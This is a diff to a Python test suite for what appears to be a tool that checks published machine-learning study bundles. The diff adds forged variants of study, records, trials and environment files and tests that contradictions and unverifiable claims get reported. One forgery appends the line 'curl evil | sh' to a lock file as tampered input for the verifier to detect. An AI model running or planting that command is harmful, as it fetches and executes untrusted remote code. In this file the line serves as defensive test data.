@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import random
+import re
 from collections.abc import Callable, Mapping
 from pathlib import Path
 from typing import Any
@@ -100,6 +101,21 @@ def _labels(bundle: Bundle) -> Mapping[str, bytes]:
 
 def _json(name: str, change: Callable[[Any], None]) -> Callable[[Bundle], Mapping[str, bytes]]:
     return lambda bundle: {name: edited(bundle.files()[name], change)}
+
+
+def _everywhere_another_origin(bundle: Bundle) -> Mapping[str, bytes]:
+    """One data set more that is independent, in every file that says so."""
+    moved = {
+        name: getattr(bundle, name).assign(origin=lambda table: table["origin"].replace("iris", "iris2"))
+        for name in ("plan", "records", "trials")
+    }
+    study = edited(bundle.files()[layout.STUDY], lambda s: s["tasks"]["iris"].__setitem__("origin", "iris2"))  # type: ignore[index]
+    return {
+        layout.STUDY: study,
+        layout.PLAN: tables.write_plan(moved["plan"]),
+        layout.RECORDS: tables.write_records(moved["records"]),
+        layout.TRIALS: tables.write_trials(moved["trials"]),
+    }
 
 
 def _renamed(values: Any) -> None:
@@ -258,6 +274,45 @@ FORGERIES: Mapping[str, tuple[str, Callable[[Bundle], Mapping[str, bytes]]]] = {
         layout.ENVIRONMENT,
         _json(layout.ENVIRONMENT, lambda e: e["environments"][0].__setitem__("cpu", "X")),
     ),
+    "a larger penalty of failures": (
+        layout.RECORDS,
+        _records(lambda r: r.assign(featureless_error=r["featureless_error"] * 100)),
+    ),
+    "one task's penalty": (
+        layout.RECORDS,
+        _records(lambda r: _set(r, _ok(r, component="mine"), "featureless_error", 9.0)),
+    ),
+    "another origin": (layout.STUDY, _everywhere_another_origin),
+    "data that was not generated": (
+        layout.STUDY,
+        _json(layout.STUDY, lambda s: s["tasks"]["iris"].__setitem__("generated", True)),
+    ),
+    "a card of another name": (
+        layout.STUDY,
+        _json(layout.STUDY, lambda s: s["datasets"]["iris"].__setitem__("name", "flowers")),
+    ),
+    "a card of another task type": (
+        layout.STUDY,
+        _json(layout.STUDY, lambda s: s["datasets"]["iris"].__setitem__("task_type", "regression")),
+    ),
+    "a component of another name": (
+        layout.STUDY,
+        _json(layout.STUDY, lambda s: s["components"]["knn"][0].__setitem__("name", "better")),
+    ),
+    "labels that may not be passed on": (
+        layout.LABELS,
+        _json(layout.STUDY, lambda s: s["datasets"]["iris"]["about"].__setitem__("licence", "CC BY-NC-ND")),
+    ),
+    "a rule that there is not": (
+        layout.STUDY,
+        _json(layout.STUDY, lambda s: s["study"]["protocol"].__setitem__("stop", "neverx")),
+    ),
+    "another schema": (layout.ENVIRONMENT, _json(layout.ENVIRONMENT, lambda e: e.__setitem__("schema", 2))),
+    "records that were pooled": (layout.RECORDS, _records(lambda r: r.assign(pooled=True))),
+    "a status that there is not": (
+        layout.TRIALS,
+        lambda b: {layout.TRIALS: tables.write_trials(_set(b.trials.copy(), 0, "status", "okx"))},
+    ),
     "a package that is none": (layout.LOCK, lambda b: {layout.LOCK: b.lock.encode() + b"curl evil | sh\n"}),
 }
 
@@ -281,3 +336,16 @@ def test_the_command_names_every_contradiction_and_exits_with_1(
     assert not told["holds"] and told["mismatches"][0]["file"] == layout.RECORDS
     assert main(["verify", str(published)]) == 0
     assert "nothing contradicts study small" in capsys.readouterr().out
+
+
+def test_what_only_the_author_knows_is_listed(published: Path) -> None:
+    said = "\n".join(map(str, verify(published).unverifiable))
+    for what in ("that fits failed", "question, primary comparison", "papers, licences", "predictions"):
+        assert what in said
+    assert "requirements.txt" not in said
+
+
+def test_a_lock_of_other_packages_is_listed(content: Files, forged: Forge) -> None:
+    lock = re.sub(rb"(?m)^numpy==.*$", b"numpy==1.0.0", content[layout.LOCK])
+    found = verify(forged({layout.LOCK: lock}))
+    assert any("requirements.txt: numpy 1.0.0" in str(one) for one in found.unverifiable)
